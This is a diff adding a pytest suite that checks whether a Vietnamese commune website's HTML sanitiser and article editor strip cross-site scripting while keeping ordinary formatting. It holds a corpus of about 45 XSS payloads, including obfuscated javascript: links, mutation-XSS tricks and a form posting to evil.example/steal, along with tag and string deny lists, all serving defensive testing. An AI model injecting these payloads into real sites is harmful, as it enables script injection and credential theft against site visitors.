@@ -1,0 +1,290 @@
+"""HTML typed by editors: an XSS corpus saved through the real form never reaches citizens; formatting survives."""
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+
+from conftest import csrf_from, section_id
+from core.content import Content
+from core.sanitize import IFRAME_HOSTS, clean_html
+from core.store import Store
+
+B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
+
+# (id, payload). Visible text in the payloads avoids the danger words, so any trace of them is markup.
+XSS = [
+    ("script", "<script>alert(1)</script>"),
+    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
+    ("script-unclosed", "<script>alert(1)"),
+    ("script-src", '<script src="https://evil.example/x.js"></script>'),
+    ("img-onerror", "<img src=x onerror=alert(1)>"),
+    ("img-onerror-mixed-case", "<IMG SRC=x OnErRoR=alert(1)>"),
+    ("img-onerror-unclosed-attr", "<img src=x onerror=\"alert(1)>"),
+    ("a-javascript", '<a href="javascript:alert(1)">bấm</a>'),
+    ("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">bấm</a>'),
+    ("a-javascript-entity", '<a href="&#106;avascript:alert(1)">bấm</a>'),
+    ("a-javascript-hex-entity", '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">bấm</a>'),
+    ("a-javascript-tab", '<a href="java&#x09;script:alert(1)">bấm</a>'),
+    ("a-javascript-leading-space", '<a href="  javascript:alert(1)">bấm</a>'),
+    ("a-javascript-colon-entity", '<a href="javascript&colon;alert(1)">bấm</a>'),
+    ("a-vbscript", '<a href="vbscript:msgbox(1)">bấm</a>'),
+    ("a-data", f'<a href="data:text/html;base64,{B64}">bấm</a>'),
+    ("svg-onload", "<svg onload=alert(1)><circle r=5></circle></svg>"),
+    ("svg-script", "<svg><script>alert(1)</script></svg>"),
+    ("iframe-evil", "<iframe src=https://evil.example></iframe>"),
+    ("iframe-evil-text", "<iframe src=\"https://evil.example/\">chữ</iframe>"),
+    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
+    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
+    ("iframe-youtube-onload", '<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)"></iframe>'),
+    ("body-onload", "<body onload=alert(1)>thân</body>"),
+    ("div-display-none", '<div style="display:none">ẩn</div>'),
+    ("div-overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%">phủ</div>'),
+    ("style-url", '<p style="background:url(javascript:alert(1))">nền</p>'),
+    ("style-block", "<style>body{display:none}</style>sau"),
+    ("math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
+    ("object", '<object data="https://evil.example/x.swf"></object>'),
+    ("embed", '<embed src="https://evil.example/x.swf">'),
+    ("form-action", '<form action="https://evil.example/steal"><input name=p><button>gửi</button></form>'),
+    ("input-onfocus", "<input onfocus=alert(1) autofocus>"),
+    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>xem</summary></details>"),
+    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
+    ("base-href", '<base href="https://evil.example/">'),
+    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
+    ("img-protocol-relative", '<img src="//evil.example/x.png">'),
+    ("a-protocol-relative", '<a href="//evil.example">bấm</a>'),
+    ("unclosed-formatting", "<b><i><u>chữ chưa đóng thẻ"),
+    ("unclosed-div-onclick", "<div><p onclick=alert(1)>chưa đóng"),
+    ("comment", "<!--<script>alert(1)</script>-->chú thích"),
+    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
+    ("template", "<template><img src=x onerror=alert(1)></template>"),
+]
+
+# Elements that must never reach a citizen's page from an article body.
+FORBIDDEN_TAGS = {
+    "script", "style", "svg", "math", "object", "embed", "form", "input", "button", "textarea", "select",
+    "body", "html", "head", "details", "meta", "base", "link", "frame", "frameset", "noscript", "template",
+    "mglyph", "mtext", "applet",
+}
+URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "background", "poster"}
+BAD_STRINGS = ["<script", "javascript:", "vbscript:", "data:text", '<iframe src="https://evil', "display:none",
+               "display: none", "position:", "onerror", "onload", "onfocus", "ontoggle", "onclick", "srcdoc",
+               "evil.example"]
+
+
+class _Tags(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, list[tuple[str, str | None]], str]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, attrs, self.get_starttag_text() or ""))
+
+    handle_startendtag = handle_starttag
+
+
+def assert_harmless(fragment: str) -> None:
+    """Fail if ``fragment`` holds anything that could run script, leave the site or hide content."""
+    lowered = fragment.lower()
+    markup = "".join(re.findall(r"<[^>]*>", fragment)).lower()
+    for bad in BAD_STRINGS:
+        assert bad not in lowered, (bad, fragment)
+    assert not re.search(r"\son[a-z]+\s*=", markup), fragment
+    parser = _Tags()
+    parser.feed(fragment)
+    parser.close()
+    for tag, attrs, raw in parser.tags:
+        assert tag not in FORBIDDEN_TAGS, raw
+        for name, value in attrs:
+            assert not name.startswith("on"), raw
+            value = value or ""
+            if name in URL_ATTRS:
+                compact = re.sub(r"[\x00-\x20]", "", value).lower()
+                assert not compact.startswith(("javascript:", "vbscript:", "data:", "//")), raw
+                scheme = urlsplit(compact).scheme
+                assert scheme in ("", "http", "https", "mailto"), raw
+            if name == "style":
+                assert not re.search(r"display|position|url\(|expression|behavior|@import", value, re.I), raw
+        if tag == "iframe":
+            src = dict(attrs).get("src")
+            if src is not None:
+                parts = urlsplit(src)
+                assert parts.scheme == "https" and parts.hostname in IFRAME_HOSTS, raw
+
+
+def event_handlers(page_html: str) -> list[str]:
+    """Return every start tag of a whole page that carries an on* attribute (parsed, not pattern-matched)."""
+    parser = _Tags()
+    parser.feed(page_html)
+    parser.close()
+    return [raw for _, attrs, raw in parser.tags if any(name.startswith("on") for name, _ in attrs)]
+
+
+def body_region(page_html: str) -> str:
+    """Return the article body exactly as the public page serves it."""
+    m = re.search(r'<div class="article__body prose">(.*?)</div>\s*(?:<section class="related"|</article>)',
+                  page_html, re.S)
+    assert m, "no article body on the page"
+    return m.group(1)
+
+
+def save_through_editor(client, content, title: str, body: str):
+    url = "/quan-tri/tin-bai/moi"
+    token = csrf_from(client.get(url).get_data(as_text=True))
+    return client.post(url, content_type="multipart/form-data", data={
+        "csrf_token": token, "title": title, "section_id": str(section_id(content, "Chuyển đổi số")),
+        "summary": "Tóm tắt an toàn.", "body": body, "cover_alt": "", "status": "published", "publish_at": "",
+        "author": "Ban Biên tập"})
+
+
+def public_body(client, data_dir, response) -> tuple[str, str]:
+    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
+    aid = int(urlsplit(response.headers["Location"]).path.rsplit("/", 1)[1])
+    fresh = Content(Store(data_dir))
+    art = fresh.article(aid)
+    page = client.get(f"/{fresh.section(art['section_id'])['slug']}/{art['slug']}")
+    assert page.status_code == 200
+    return page.get_data(as_text=True), art["body"]
+
+
+def test_corpus_is_big_enough():
+    assert len(XSS) >= 15
+
+
+@pytest.mark.parametrize("payload", [p for i, p in XSS if i != "unclosed-formatting"],
+                         ids=[i for i, _ in XSS if i != "unclosed-formatting"])
+def test_checker_flags_each_raw_payload(payload):
+    """Negative control: uncleaned, every dangerous payload fails the check used below."""
+    with pytest.raises(AssertionError):
+        assert_harmless(payload)
+
+
+# ---------------------------------------------------------------- through the real editor form
+@pytest.mark.parametrize("payload", [p for _, p in XSS], ids=[i for i, _ in XSS])
+def test_xss_never_reaches_the_public_article(client, auth, content, data_dir, payload):
+    body = "<p>Mở đầu an toàn.</p>" + payload + "<p>Kết thúc an toàn.</p>"
+    page, stored = public_body(client, data_dir, save_through_editor(client, content, "Bài thử nghiệm", body))
+    region = body_region(page)
+    assert_harmless(region)
+    assert_harmless(stored)  # cleaned once, on save: what is on disk is already safe
+    assert "<p>Mở đầu an toàn.</p>" in region
+    # The page as a whole carries no script either (no part of the body leaked elsewhere, e.g. in meta tags).
+    assert "<script" not in page.lower()
+    assert event_handlers(page) == []
+
+
+@pytest.mark.parametrize("payload", [p for _, p in XSS], ids=[i for i, _ in XSS])
+def test_clean_html_corpus(payload):
+    assert_harmless(clean_html(payload))
+    assert_harmless(clean_html("<p>trước</p>" + payload + "<p>sau</p>"))
+
+
+def test_xss_at_the_very_end_of_the_body_is_shown_as_text(client, auth, content, data_dir):
+    """An unclosed tag at the end is dropped by browsers; the cleaner keeps it only as escaped text."""
+    page, _ = public_body(client, data_dir,
+                          save_through_editor(client, content, "Thẻ chưa đóng", "<p>chữ</p><img src=x onerror=alert(1)"))
+    region = body_region(page)
+    markup = "".join(re.findall(r"<[^>]*>", region)).lower()
+    assert "onerror" not in markup and "<img" not in markup
+    parser = _Tags()
+    parser.feed(region)
+    assert [t for t, _, _ in parser.tags] == ["p"]
+
+
+def test_html_in_plain_fields_is_escaped(client, auth, content, data_dir):
+    url = "/quan-tri/tin-bai/moi"
+    token = csrf_from(client.get(url).get_data(as_text=True))
+    r = client.post(url, content_type="multipart/form-data", data={
+        "csrf_token": token, "title": "<script>alert(1)</script>Tiêu đề", "section_id": str(section_id(content, "Chuyển đổi số")),
+        "summary": '<img src=x onerror=alert(2)>', "body": "<p>x</p>", "status": "published",
+        "author": '"><svg onload=alert(3)>', "cover_alt": ""})
+    page, _ = public_body(client, data_dir, r)
+    assert "<script>alert(1)" not in page and "<img src=x onerror" not in page and "<svg onload" not in page
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;Tiêu đề" in page
+    assert event_handlers(page) == []
+    for listing in ("/chuyen-doi-so", "/", "/tim-kiem?q=tieu+de"):
+        html = client.get(listing).get_data(as_text=True)
+        assert "<script>alert(1)" not in html and event_handlers(html) == []
+
+
+def test_intro_page_body_is_cleaned_too(client, auth, data_dir):
+    url = "/quan-tri/trang-gioi-thieu/moi"
+    token = csrf_from(client.get(url).get_data(as_text=True))
+    body = "<p>Giới thiệu.</p>" + "".join(p for _, p in XSS)
+    r = client.post(url, data={"csrf_token": token, "title": "Trang thử nghiệm", "body": body})
+    assert r.status_code == 302
+    html = client.get("/gioi-thieu/trang-thu-nghiem").get_data(as_text=True)
+    region = re.search(r'<div class="article__body prose">(.*?)</div>\s*</article>', html, re.S).group(1)
+    assert_harmless(region)
+    assert "<p>Giới thiệu.</p>" in region
+
+
+# ---------------------------------------------------------------- formatting that must survive
+ALLOWED = [
+    "<p>Đoạn văn bình thường.</p>",
+    "<h2>Tiêu đề mục</h2>",
+    "<h3>Tiêu đề nhỏ</h3>",
+    "<p><strong>chữ đậm</strong> và <em>chữ nghiêng</em></p>",
+    "<ul><li>mục một</li><li>mục hai</li></ul>",
+    "<ol><li>bước một</li><li>bước hai</li></ol>",
+    '<a href="https://dichvucong.gov.vn/p/home">Cổng Dịch vụ công</a>',
+    '<a href="mailto:ubnd@duongquang.gov.vn">Gửi thư</a>',
+    '<a href="/gioi-thieu/thong-tin-chung">Trang trong site</a>',
+    '<img src="https://hungyen.gov.vn/anh/tru-so.jpg" alt="Trụ sở UBND xã">',
+    "<blockquote>Trích dẫn.</blockquote>",
+    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315"></iframe>',
+]
+TABLE_IN = "<table><tr><th>Họ và tên</th><th>Chức vụ</th></tr><tr><td>Nguyễn Văn An</td><td>Chủ tịch</td></tr></table>"
+TABLE_OUT = ("<table><tbody><tr><th>Họ và tên</th><th>Chức vụ</th></tr>"
+             "<tr><td>Nguyễn Văn An</td><td>Chủ tịch</td></tr></tbody></table>")
+
+
+def test_allowed_formatting_survives_the_editor(client, auth, content, data_dir):
+    body = "".join(ALLOWED) + TABLE_IN + '<p style="text-align: center">Căn giữa</p>'
+    page, stored = public_body(client, data_dir, save_through_editor(client, content, "Bài định dạng", body))
+    region = body_region(page)
+    for fragment in ALLOWED:
+        assert fragment in region, fragment
+    assert TABLE_OUT in region
+    assert re.search(r'<p style="text-align: center;?">Căn giữa</p>', region)
+    assert region == stored
+    assert_harmless(region)
+
+
+@pytest.mark.parametrize("fragment", ALLOWED)
+def test_clean_html_keeps_allowed_formatting(fragment):
+    assert clean_html(fragment) == fragment
+
+
+def test_clean_html_keeps_tables():
+    assert clean_html(TABLE_IN) == TABLE_OUT
+
+
+@pytest.mark.parametrize("src", [
+    "https://www.youtube.com/embed/abc",
+    "https://www.youtube-nocookie.com/embed/abc",
+    "https://www.google.com/maps/embed?pb=x",
+])
+def test_clean_html_keeps_iframes_from_allowed_hosts(src):
+    assert f'src="{src.replace("&", "&amp;")}"' in clean_html(f'<iframe src="{src}"></iframe>')
+
+
+@pytest.mark.parametrize("src", [
+    "http://www.youtube.com/embed/abc",  # plain http
+    "https://youtube.com.evil.example/embed/abc",
+    "https://evil.example/?www.youtube.com",
+    "https://www.youtube.com@evil.example/embed",
+    "//www.youtube.com/embed/abc",
+])
+def test_clean_html_drops_iframes_from_other_hosts(src):
+    out = clean_html(f'<iframe src="{src}"></iframe><p>sau</p>')
+    assert "evil" not in out and "<iframe" not in out
+    assert out == "<p>sau</p>"
+
+
+def test_clean_html_of_nothing():
+    assert clean_html("") == ""
+    assert clean_html(None) == ""
